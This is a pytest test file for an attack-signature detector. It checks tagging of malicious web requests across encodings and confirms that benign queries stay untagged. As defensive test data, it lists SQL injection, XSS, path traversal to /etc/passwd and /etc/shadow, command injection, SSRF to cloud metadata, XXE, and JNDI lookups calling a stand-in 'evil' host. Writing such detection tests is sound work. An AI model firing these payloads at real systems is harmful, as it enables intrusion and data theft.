"""Signs of attack are seen in every place and encoding, and honest traffic shows none."""

# One row of a table is one line, whatever its length.
# ruff: noqa: E501

from __future__ import annotations

import csv
import gzip
import io
from collections.abc import Sequence
from pathlib import Path
from urllib.parse import quote

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tocsin.event.signatures import SIGNATURES, match
from tocsin.intake import signatures as room
from tocsin.intake.scan import Scanner
from tocsin.intake.signatures import mark

ATTACKS = [
    ("sqli", "id=1' OR '1'='1"),
    ("sqli", "id=1 union all select null,null,version()--"),
    ("sqli", "id=1/**/UNION/**/SELECT/**/1,2,3"),
    ("sqli", "name=admin'--"),
    ("sqli", "id=1; DROP TABLE users"),
    ("sqli", "id=1 and sleep(5)"),
    ("sqli", "id=(select count(*) from information_schema.tables)"),
    ("nosqli", "user[$ne]=x"),
    ("xss", "q=<script>alert(1)</script>"),
    ("xss", "q=\"><img src=x onerror=alert(1)>"),
    ("xss", "next=javascript:alert(document.cookie)"),
    ("traversal", "file=../../../../etc/passwd"),
    ("traversal", "file=..\\..\\windows\\win.ini"),
    ("traversal", "page=php://filter/convert.base64-encode/resource=index"),
    ("file", "file=/etc/shadow"),
    ("cmdi", "host=1.1.1.1;cat /etc/hosts"),
    ("cmdi", "host=$(whoami)"),
    ("cmdi", "x=() { :;}; echo vulnerable"),
    ("ssti", "name={{7*7}}"),
    ("ssti", "name=${7*7}"),
    ("ssti", "x={{''.__class__.__mro__}}"),
    ("ssrf", "url=http://169.254.169.254/latest/meta-data/"),
    ("ssrf", "url=http://127.0.0.1:8080/admin"),
    ("ssrf", "url=gopher://db:6379/_FLUSHALL"),
    ("jndi", "x=${jndi:ldap://evil/a}"),
    ("jndi", "x=${${lower:j}ndi:rmi://evil/a}"),
    ("forge", "user=bob\n2026-11-23 09:00:00 INFO login ok"),
    ("forge", "user=bob\x1b[2K"),
    ("header", "next=/\r\nSet-Cookie: a=b"),
    ("nul", "file=a.php\x00.jpg"),
    ("xxe", "x=<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>"),
    ("proto", "__proto__[admin]=1"),
    ("deserial", "data=rO0ABXNyABFqYXZhLnV0aWwu"),
]  # fmt: skip


def tags_of(**columns: Sequence[str | None]) -> list[list[str]]:
    size = len(next(iter(columns.values())))
    frame = pl.DataFrame({"kind": ["request"] * size, **columns})
    marked = mark(frame)
    return [v or [] for v in marked["tags"].to_list()] if "tags" in marked.columns else [[]] * size


@pytest.mark.parametrize(("kind", "query"), ATTACKS)
def test_an_attack_is_seen_plain_encoded_and_encoded_twice(kind: str, query: str) -> None:
    name, _, value = query.partition("=")
    once = f"{quote(name, safe='')}={quote(value, safe='')}"
    twice = f"{quote(name, safe='')}={quote(quote(value, safe=''), safe='')}"
    plain, first, second = tags_of(query=[query.replace("%", "%25"), once, twice])
    assert f"sig.{kind}.query" in first
    assert f"sig.{kind}.query" in second
    assert "enc.double" not in first
    assert ("enc.double" in second) == (quote(value, safe="") != value)
    assert f"sig.{kind}.query" in plain or "+" in query


def test_the_place_is_named_and_the_payload_is_not() -> None:
    (tags,) = tags_of(
        path=["/a/../../etc/passwd"],
        query=["q=<script>alert(1)</script>"],
        referer=["https://x/?q=' or 1=1--"],
        user_agent=["sqlmap/1.8"],
    )
    places = {"sig.traversal.path", "sig.file.path", "sig.xss.query", "sig.sqli.referer"}
    assert places | {"sig.scanner.user_agent"} <= set(tags)
    assert not any(word in tag for tag in tags for word in ("passwd", "alert", "1=1", "sqlmap"))


def test_only_the_words_of_logs_are_read_as_a_sources_own_line() -> None:
    frame = pl.DataFrame({"kind": ["log", "request"], "message": ["${jndi:ldap://x/a}"] * 2})
    assert mark(frame)["tags"].to_list() == [["sig.jndi.message"], None]


HONEST = [
    "q=rock and roll&page=2", "q=it's a 'test' of #1 quality", "q=select a plan from the menu", "q=union station hotels",
    "name=O'Brien&city=L'Aquila", "q=drop the table off; insert coin", "q=cats; dogs and more", "sort=-created&order=by name",
    "email=bob@example.com&next=/account", "q=5 > 3 and 2 < 4", "q=a <b>bold</b> word", "filter=price:10..20",
    "redirect=https://shop.example.com/cart?id=1", "q=C++ or C#", "q=100% cotton", "t=2026-11-23T09:00:00+01:00", "id=1,2,3",
    "q=how to use curl and wget", "text=Hello; how are you? (fine)", "q={name}", "note=alert the team", "q=like this & that",
    "q=python -- the language", "fields=id,name,order&group=user", "q=script writing course", "q=sleep well", "exec=true",
]  # fmt: skip


@pytest.mark.parametrize("query", HONEST)
def test_honest_words_show_no_sign(query: str) -> None:
    assert tags_of(query=[query], message=[query]) == [[]]


def test_old_tags_stay_and_come_first() -> None:
    frame = pl.DataFrame({"query": ["q=<script>", "a=1"], "tags": [["demo"], ["demo"]]})
    assert mark(frame)["tags"].to_list() == [["demo", "sig.xss.query"], ["demo"]]


fragments = st.sampled_from(
    [part for _, query in ATTACKS for part in (query, quote(query), quote(quote(query)))]
    + ["\n", "\r\n", "\x0b", "%", "+", "%0a", "Ä", "a=1&", "'", " ", "%2527"]
)


@settings(deadline=None, max_examples=60)
@given(values=st.lists(st.lists(fragments, max_size=3).map("".join), min_size=1, max_size=6))
def test_one_scan_over_all_rows_says_what_the_table_says_of_each(values: list[str]) -> None:
    for name in ("query", "path", "user_agent"):
        assert [set(t) for t in tags_of(**{name: list(values)})] == [match(v, name) for v in values]


def test_a_row_full_of_signs_hides_no_other_row(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(room, "_SCANNER", Scanner(room._PATTERNS, most=4))
    values = [
        "q=" + "<script>" * 50 + "' or 1=1--",
        "a=1",
        "q=${jndi:ldap://x}",
        "q=../../etc/passwd",
    ]
    assert [set(t) for t in tags_of(query=list(values))] == [match(v, "query") for v in values]


def test_ids_are_the_places_in_the_table() -> None:
    assert len({(s.kind, s.places, s.pattern) for s in SIGNATURES}) == len(SIGNATURES)


def test_foreign_payloads_are_recognised_and_foreign_honest_values_are_not(corpora: Path) -> None:
    with gzip.open(corpora / "httpparams" / "payload_train.csv.gz") as packed:
        rows = list(csv.DictReader(io.TextIOWrapper(packed, "utf-8")))
    tags = tags_of(query=["v=" + quote(row["payload"]) for row in rows])
    signs = [any(t.startswith("sig.") for t in tag) for tag in tags]
    false = sum(s for s, row in zip(signs, rows, strict=True) if row["label"] == "norm")
    norm = sum(row["label"] == "norm" for row in rows)
    assert false <= norm / 1000
    for kind, least in (("sqli", 0.95), ("xss", 0.85)):
        hits = [s for s, row in zip(signs, rows, strict=True) if row["attack_type"] == kind]
        assert sum(hits) >= least * len(hits), kind
